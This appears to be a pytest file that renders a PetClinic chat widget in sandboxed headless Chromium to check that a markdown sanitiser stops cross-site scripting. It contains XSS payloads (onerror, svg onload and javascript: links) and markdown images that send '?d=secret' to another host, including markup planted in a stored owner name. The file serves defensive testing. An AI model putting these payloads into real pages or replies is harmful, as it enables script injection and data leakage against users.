"""The upstream PetClinic chat widget, in headless Chromium: what the function sends runs nothing and loads
nothing from another host.

The page does with a reply what spring-petclinic-microservices' api-gateway chat script does: POST the
question to /api/genai/chatclient, read the reply with response.text(), marked.parse() it (marked 14.1.2,
the version its pom pins, with marked's default options), put the HTML into a new div's innerHTML and
append that div to #chatbox-messages. It also puts the saved conversation back the way the widget does on
the next page load (the messages' innerHTML, read and written again). marked comes from vendor/ (npm,
MIT licence beside it).

Chromium is driven over the DevTools protocol on a pipe (--remote-debugging-pipe: stdlib only, no
websocket). The page is served on 127.0.0.1; "another host" is a second server on 127.0.0.2 that logs
what it is asked for, and every other name resolves to nothing (--host-resolver-rules), so no request
leaves the machine. A vector "ran" when alert(N) was called (window.alert records its argument; a dialog
from a frame counts too); a load "left" when the protocol's Network events show a request to anything but
the page's own origin. After rendering, every link and button in the messages is clicked, so a
javascript: link counts as run. The raw texts must run and load (else the harness proves nothing); the
same texts through genai.markdown must do neither.
"""

from __future__ import annotations

import contextlib
import fcntl
import json
import os
import queue
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))  # tests/, for xss_vectors
sys.path.insert(0, str(HERE.parent.parent))  # the repository, for genai

from genai import markdown  # noqa: E402
from xss_vectors import VECTORS, render  # noqa: E402

IN_CI = os.environ.get("CI", "").lower() == "true"
MARKED = HERE / "vendor" / "marked.min.js"
TIMEOUT = 20.0

# The widget. The question goes out and the reply comes back as upstream's chat script sends and reads
# them; appendMessage renders as it does. replay() is its page-load path (saved innerHTML put back).
PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>PetClinic chat</title>
<script>
window.__hits = [];
window.alert = window.confirm = window.prompt = function (value) { window.__hits.push(String(value)); };
</script></head>
<body>
<div class="chatbox" id="chatbox"><div class="chatbox-content" id="chatbox-content">
<div class="chatbox-messages" id="chatbox-messages"></div>
</div></div>
<script src="/marked.min.js"></script>
<script>
function appendMessage(message, type) {
  const messages = document.getElementById('chatbox-messages');
  const element = document.createElement('div');
  element.classList.add('chat-bubble', type);
  element.innerHTML = marked.parse(message);
  messages.appendChild(element);
  messages.scrollTop = messages.scrollHeight;
}
async function ask(question) {
  const response = await fetch('/api/genai/chatclient', {
    method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify(question)});
  appendMessage(await response.text(), 'bot');
}
async function askAll(count) {
  for (let i = 0; i < count; i++) { await ask('question ' + i); }
  const messages = document.getElementById('chatbox-messages');
  const saved = messages.innerHTML;
  messages.innerHTML = '';
  messages.innerHTML = saved;
  return messages.children.length;
}
async function clickEverything() {
  const clicked = [];
  document.addEventListener('click', (event) => {
    const link = event.target.closest && event.target.closest('a');
    const href = link && (link.href.baseVal !== undefined ? link.href.baseVal : link.href);
    if (href && /^https?:/i.test(href)) { event.preventDefault(); }
  }, true);
  for (const element of document.querySelectorAll('#chatbox-messages a, #chatbox-messages button, #chatbox-messages input')) {
    element.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
    clicked.push(element.tagName);
    // a javascript: URL runs in a later task, and a second click before it would cancel the first
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return clicked.length;
}
function urls() {
  const found = [];
  for (const element of document.querySelectorAll('#chatbox-messages *')) {
    for (const attribute of element.attributes) {
      found.push([element.tagName.toLowerCase(), attribute.name, attribute.value]);
    }
  }
  return found;
}
</script>
</body></html>
"""


class CDP:
    """The DevTools protocol over Chromium's pipe: JSON messages ended by NUL, fd 3 in, fd 4 out."""

    def __init__(self, write_fd: int, read_fd: int) -> None:
        self._write = os.fdopen(write_fd, "wb", buffering=0)
        self._read = os.fdopen(read_fd, "rb", buffering=0)
        self._next_id = 0
        self._replies: dict[int, queue.Queue[dict[str, Any]]] = {}
        self._lock = threading.Lock()
        self.events: queue.Queue[dict[str, Any]] = queue.Queue()
        threading.Thread(target=self._reader, daemon=True).start()

    def _reader(self) -> None:
        buffer = b""
        while chunk := self._read.read(65536):
            buffer += chunk
            *messages, buffer = buffer.split(b"\0")
            for raw in messages:
                message = json.loads(raw)
                if "id" in message:
                    with self._lock:
                        waiting = self._replies.pop(message["id"], None)
                    if waiting:
                        waiting.put(message)
                else:
                    self.events.put(message)

    def send(self, method: str, params: dict[str, Any] | None = None, session: str | None = None) -> dict[str, Any]:
        with self._lock:
            self._next_id += 1
            number = self._next_id
            reply: queue.Queue[dict[str, Any]] = queue.Queue()
            self._replies[number] = reply
        message: dict[str, Any] = {"id": number, "method": method, "params": params or {}}
        if session:
            message["sessionId"] = session
        self._write.write(json.dumps(message).encode() + b"\0")
        answer = reply.get(timeout=TIMEOUT)
        if "error" in answer:
            raise RuntimeError(f"{method}: {answer['error']}")
        return answer.get("result", {})

    def close(self) -> None:
        for stream in (self._write, self._read):
            with contextlib.suppress(OSError):
                stream.close()


def find_chromium() -> str:
    for name in (os.environ.get("CHROMIUM", ""), "chromium", "chromium-browser", "google-chrome"):
        if name and (path := shutil.which(name)):
            return path
    message = "no Chromium: apt-get install chromium (Debian), or set CHROMIUM to the browser's path"
    if IN_CI:
        pytest.fail(f"CI must run the browser test: {message}")
    pytest.skip(message)


@pytest.fixture(scope="module")
def browser() -> Iterator[CDP]:
    """A headless Chromium with a fresh profile, reachable only on loopback, driven over its pipe."""
    binary = find_chromium()
    profile = tempfile.mkdtemp(prefix="petclinic-chromium-")
    to_browser_r, to_browser_w = os.pipe()
    from_browser_r, from_browser_w = os.pipe()
    # Above any fd the child's dup2 to 3 and 4 could overwrite.
    child_in = fcntl.fcntl(to_browser_r, fcntl.F_DUPFD_CLOEXEC, 10)
    child_out = fcntl.fcntl(from_browser_w, fcntl.F_DUPFD_CLOEXEC, 10)

    def give_pipes() -> None:  # runs in the child: fd 3 reads the commands, fd 4 writes the replies
        os.dup2(child_in, 3)
        os.dup2(child_out, 4)

    args = [
        binary, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync",
        "--disable-default-apps", "--disable-extensions", "--no-default-browser-check", "--mute-audio",
        "--no-proxy-server", "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE 127.0.0.2",
        f"--user-data-dir={profile}", "--remote-debugging-pipe", "about:blank",
    ]
    env = {key: value for key, value in os.environ.items() if "proxy" not in key.lower()}
    log = open(Path(profile) / "chromium.log", "wb")  # noqa: SIM115 (closed below)
    process = subprocess.Popen(args, stdin=subprocess.DEVNULL, stdout=log, stderr=log, env=env,
                               preexec_fn=give_pipes, close_fds=False)
    for fd in (to_browser_r, from_browser_w, child_in, child_out):
        os.close(fd)
    cdp = CDP(to_browser_w, from_browser_r)
    try:
        try:
            cdp.send("Browser.getVersion")
        except (queue.Empty, OSError, RuntimeError) as err:
            log.flush()
            pytest.fail(f"Chromium did not answer on its pipe ({err!r}); its log:\n"
                        + (Path(profile) / "chromium.log").read_text(errors="replace")[-3000:])
        yield cdp
    finally:
        try:
            cdp.send("Browser.close")
            process.wait(timeout=10)
        except Exception:
            process.kill()
            process.wait(timeout=10)
        cdp.close()
        log.close()
        shutil.rmtree(profile, ignore_errors=True)


class _Quiet(BaseHTTPRequestHandler):
    def log_message(self, *args: Any) -> None:
        pass


@dataclass
class Site:
    """The widget's origin on 127.0.0.1 and another host on 127.0.0.2, each logging what it is asked."""

    origin: str = ""
    other: str = ""
    replies: list[str] = field(default_factory=list)
    seen_here: list[str] = field(default_factory=list)
    seen_elsewhere: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    state = Site()

    class Widget(_Quiet):
        def do_GET(self) -> None:
            state.seen_here.append(self.path)
            if self.path == "/":
                self._send(200, "text/html; charset=utf-8", PAGE.encode())
            elif self.path == "/marked.min.js":
                self._send(200, "text/javascript; charset=utf-8", MARKED.read_bytes())
            else:
                self._send(404, "text/plain", b"not found")

        def do_POST(self) -> None:
            state.seen_here.append(self.path)
            body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))))
            number = int(str(body).rsplit(" ", 1)[-1])
            self._send(200, "text/plain; charset=utf-8", state.replies[number].encode())

        def _send(self, status: int, kind: str, body: bytes) -> None:
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Cache-Control", "no-store")
            self.end_headers()
            self.wfile.write(body)

    class Elsewhere(_Quiet):
        def do_GET(self) -> None:
            state.seen_elsewhere.append(self.path)
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()

    here = ThreadingHTTPServer(("127.0.0.1", 0), Widget)
    try:
        elsewhere = ThreadingHTTPServer(("127.0.0.2", 0), Elsewhere)
    except OSError as err:  # every Linux routes 127.0.0.0/8 to lo; say so if this one does not
        here.server_close()
        pytest.fail(f"cannot listen on 127.0.0.2 for the 'other host': {err}")
    servers = (here, elsewhere)
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    state.origin = f"http://127.0.0.1:{here.server_address[1]}"
    state.other = f"http://127.0.0.2:{elsewhere.server_address[1]}"
    yield state
    for server in servers:
        server.shutdown()
        server.server_close()


@dataclass
class Outcome:
    ran: list[str]  # the N of each alert(N), and dialogs
    requests: list[str]  # every URL the page asked for, as Chromium's Network events tell
    elsewhere: list[str]  # what the server on the other host was asked for
    attributes: list[list[str]]  # [tag, attribute, value] of everything in the messages
    text: str  # the messages as a reader sees them
    html: str

    def left(self, origin: str) -> list[str]:
        return [url for url in self.requests if not url.startswith(origin + "/")]


def _drain(events: queue.Queue[dict[str, Any]]) -> list[dict[str, Any]]:
    out = []
    while True:
        try:
            out.append(events.get_nowait())
        except queue.Empty:
            return out


def show(browser: CDP, site: Site, replies: list[str]) -> Outcome:
    """Open the widget in a new tab, have it ask len(replies) questions answered with `replies`, let every
    load finish, click every link and button, and report what ran and what was requested."""
    site.replies = replies
    site.seen_elsewhere.clear()
    target = browser.send("Target.createTarget", {"url": "about:blank"})["targetId"]
    session = browser.send("Target.attachToTarget", {"targetId": target, "flatten": True})["sessionId"]
    try:
        for domain in ("Page", "Runtime", "Network"):
            browser.send(f"{domain}.enable", session=session)
        _drain(browser.events)
        browser.send("Page.navigate", {"url": site.origin + "/"}, session=session)
        requests: list[str] = []
        dialogs: list[str] = []
        pending: set[str] = set()

        def follow(until: float, need: str | None = None) -> None:
            """Record events until `need` is seen (then the network is quiet) or the time is up."""
            quiet_since = time.monotonic()
            seen_need = need is None
            while time.monotonic() < until:
                try:
                    event = browser.events.get(timeout=0.05)
                except queue.Empty:
                    if seen_need and not pending and time.monotonic() - quiet_since > 0.4:
                        return
                    continue
                if event.get("sessionId") != session:
                    continue
                method, params = event["method"], event.get("params", {})
                if method == "Network.requestWillBeSent":
                    requests.append(params["request"]["url"])
                    pending.add(params["requestId"])
                elif method in ("Network.loadingFinished", "Network.loadingFailed"):
                    pending.discard(params["requestId"])
                elif method == "Page.javascriptDialogOpening":
                    dialogs.append(f"dialog:{params.get('message')}")
                    browser.send("Page.handleJavaScriptDialog", {"accept": False}, session=session)
                elif method == need:
                    seen_need = True
                quiet_since = time.monotonic()
            if need and not seen_need:
                raise TimeoutError(f"no {need} within {TIMEOUT} s")

        def evaluate(expression: str) -> Any:
            result = browser.send("Runtime.evaluate", {"expression": expression, "awaitPromise": True,
                                                       "returnByValue": True}, session=session)
            if "exceptionDetails" in result:
                raise RuntimeError(f"{expression}: {result['exceptionDetails']}")
            return result["result"].get("value")

        follow(time.monotonic() + TIMEOUT, "Page.loadEventFired")
        assert evaluate(f"askAll({len(replies)})") == len(replies)
        follow(time.monotonic() + TIMEOUT)
        evaluate("clickEverything()")
        follow(time.monotonic() + TIMEOUT)
        time.sleep(0.3)  # a javascript: URL runs in a task after the click
        follow(time.monotonic() + 2)
        return Outcome(
            ran=[str(hit) for hit in evaluate("window.__hits")] + dialogs,
            requests=requests,
            elsewhere=list(site.seen_elsewhere),
            attributes=evaluate("urls()"),
            text=evaluate("document.getElementById('chatbox-messages').innerText"),
            html=evaluate("document.getElementById('chatbox-messages').innerHTML"),
        )
    finally:
        browser.send("Target.closeTarget", {"targetId": target})


def _vectors(other: str) -> list[str]:
    return [render(template, number, other) for number, template in enumerate(VECTORS.values())]


def _number(name: str) -> str:
    return str(list(VECTORS).index(name))


# Elements marked can produce from text with no HTML in it, and the attributes it gives them.
MARKDOWN_TAGS = {"div", "p", "strong", "em", "del", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td",
                 "h1", "h2", "h3", "h4", "h5", "h6", "br", "hr", "blockquote", "code", "pre", "input"}
MARKDOWN_ATTRIBUTES = {"class", "align", "start", "type", "checked", "disabled"}


def assert_nothing_ran_or_left(outcome: Outcome, site: Site, allowed: tuple[str, ...] = ()) -> None:
    assert outcome.ran == [], f"script ran: {outcome.ran}\n{outcome.html}"
    assert outcome.left(site.origin) == [], f"requests to another host: {outcome.left(site.origin)}"
    assert outcome.elsewhere == [], f"the other host was asked for {outcome.elsewhere}"
    for tag, attribute, value in outcome.attributes:
        if tag in ("a", "img") and attribute in ("href", "src") and value.startswith(allowed):
            continue
        if tag == "img" and attribute == "alt" and allowed:
            continue
        assert tag in MARKDOWN_TAGS, f"<{tag}> in the messages:\n{outcome.html}"
        assert attribute in MARKDOWN_ATTRIBUTES, f"<{tag} {attribute}={value!r}> in the messages:\n{outcome.html}"


def test_the_harness_sees_raw_markup_run_and_load(browser: CDP, site: Site) -> None:
    """Unescaped, the vectors do run and load from another host in this page: the checks below can fail."""
    outcome = show(browser, site, _vectors(site.other))
    # the reproduction: markup in a stored name runs; a markdown image is fetched from elsewhere
    for name in ("img-onerror", "korean-name", "md-table-cell", "a-href-js", "a-href-tab-entity", "svg-anchor", "iframe-srcdoc",
                 "details-ontoggle", "math-mxss", "md-link-js", "md-link-js-case", "md-link-js-entity", "md-link-js-colon-entity",
                 "md-link-js-tab-entity", "md-link-nested", "md-link-image-in-link", "md-link-ref-js", "md-autolink-js"):
        assert _number(name) in outcome.ran, f"{name} did not run: the harness cannot tell"
    for path in ("/md-image.png?d=secret", "/md-image-alt.png", "/md-image-angle.png", "/md-image-title.png", "/md-image-ref.png",
                 "/md-image-shortcut.png", "/nested.png", "/html-img.png?d=secret", "/style-import.css", "/link.css", "/srcset.png"):
        assert path in outcome.elsewhere, f"{path} was not requested from the other host: the harness cannot tell"
    assert any(url.startswith(site.other) for url in outcome.left(site.origin))


def test_safe_answers_run_nothing_and_load_nothing_from_another_host(browser: CDP, site: Site) -> None:
    replies = [markdown.safe_answer(text) for text in _vectors(site.other)]
    outcome = show(browser, site, replies)
    assert_nothing_ran_or_left(outcome, site)
    assert "<img src=x onerror=alert(" in outcome.text  # shown as text, not dropped
    assert f"{site.other}/md-image.png?d=secret" in outcome.text


def test_safe_answers_with_an_allowed_host_still_refuse_every_other(browser: CDP, site: Site) -> None:
    """127.0.0.1 (the page's own host) allowed: the vectors aim at 127.0.0.2 and stay inert."""
    replies = [markdown.safe_answer(text, {"127.0.0.1"}) for text in _vectors(site.other)]
    assert_nothing_ran_or_left(site=site, outcome=show(browser, site, replies), allowed=(site.origin + "/",))


def test_stored_values_quoted_in_the_functions_texts_run_nothing(browser: CDP, site: Site) -> None:
    """What the function writes itself ("Done:", proposals) around escaped stored values."""
    values = _vectors(site.other)
    replies = [f"Done: added **{markdown.escape_text(value)}** to owner *{markdown.escape_text(value)}*." for value in values]
    replies.append("제안: " + ", ".join(f"`{markdown.escape_text(value)}`" for value in values[:10]))
    outcome = show(browser, site, replies)
    assert_nothing_ran_or_left(outcome, site)
    for value in values[:5]:
        assert value.replace("\n", " ") in outcome.text


def test_safe_answers_still_look_like_markdown(browser: CDP, site: Site) -> None:
    answer = (
        "**Coco**의 주인은 *Jean Coleman*입니다.\n\n"
        "- 방문: 2024-01-02, 10:30\n- 종류: 고양이\n\n"
        "| 이름 | 종류 |\n|:---|---:|\n| Coco | 고양이 |\n\n"
        "첫 줄  \n둘째 줄 <b>not bold</b>\n\n"
        f"[our page]({site.origin}/ok) ![a picture]({site.origin}/ok.png) and [elsewhere]({site.other}/x)"
    )
    outcome = show(browser, site, [markdown.safe_answer(answer, {"127.0.0.1"})])
    assert_nothing_ran_or_left(outcome, site, allowed=(site.origin + "/",))
    html = outcome.html
    for piece in ("<strong>Coco</strong>의 주인은", "<em>Jean Coleman</em>", "<li>방문: 2024-01-02, 10:30</li>",
                  '<th align="left">이름</th>', "<td align=\"right\">고양이</td>", "첫 줄<br>둘째 줄",
                  "&lt;b&gt;not bold&lt;/b&gt;", f'<a href="{site.origin}/ok">our page</a>',
                  f'<img src="{site.origin}/ok.png" alt="a picture">', f"elsewhere ({site.other}/x)"):
        assert piece in html, f"{piece!r} not in {html}"
    assert f"{site.origin}/ok.png" in outcome.requests  # the allowed image did load


# ------------------------------------------------------------------ the real handler's answers in the widget


def _chatclient(question: str, conversation: str, sub: str | None = None) -> str:
    """The handler's /chatclient reply, as API Gateway hands it to the widget (a signed-in member of staff
    when ``sub`` is given)."""
    import lambda_function
    from local import run as local_run

    context: dict[str, Any] = {"apiId": "local", "stage": "v1", "identity": {"sourceIp": "198.51.100.7"}}
    if sub:
        context["authorizer"] = {"claims": {"sub": sub}}
    event = {"httpMethod": "POST", "path": "/api/genai/chatclient", "requestContext": context,
             "headers": {"Content-Type": "application/json",
                         "Cookie": "__Host-petclinic_genai_conversation=" + local_run.signed_conversation_id(conversation)},
             "body": json.dumps(question)}
    response = lambda_function.lambda_handler(event, local_run.FakeContext())
    assert response["statusCode"] == 200, response["body"]
    return response["body"]


def test_the_handlers_answers_that_repeat_stored_markup_run_nothing(browser: CDP, site: Site,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """The attack end to end: an owner whose stored first name is markup (written before the write
    validation refused it), then the function's own proposal and "Done:" texts quoting it, and a model
    answer repeating it with an image aimed at another host: the widget runs nothing and loads nothing."""
    from genai import clients, config, model
    from local import run as local_run

    planted = f'<img src=x onerror=alert(91)> ![x]({site.other}/stored.png?d=secret)'
    with local_run.local_endpoints(None, memory=True, replace=True) as stack:
        monkeypatch.setenv("WRITES_ENABLED", "true")
        monkeypatch.setenv("ANONYMOUS_READ_SCOPE", "all")
        clients._clients.clear()
        config._settings = None
        connection = stack["backend"].connection()
        cursor = connection.cursor()
        cursor.execute("UPDATE owners SET first_name = ? WHERE id = 6", (planted,))
        connection.commit()
        staff = "0f5a7c1e-2b3d-4e5f-8a9b-0c1d2e3f4a5b"
        proposal = _chatclient("add pet: owner 6, name Bella, type cat, born 2024-03-01", "xss-1", staff)
        done = _chatclient("yes", "xss-1", staff)
        assert "Done:" in done and "Nothing is saved yet" in proposal
        echoed = model.Answer(f"The owner is {planted} [click](javascript:alert(92)) <svg onload=alert(93)>", False)
        monkeypatch.setattr(model, "converse_loop", lambda *args, **kwargs: (echoed, args[4] if len(args) > 4 else None))
        answer = _chatclient("Who owns Bella?", "xss-2")
        config._settings = None
    outcome = show(browser, site, [proposal, done, answer])
    assert_nothing_ran_or_left(outcome, site)
    assert "onerror=alert(91)" in outcome.text  # shown as text, not dropped
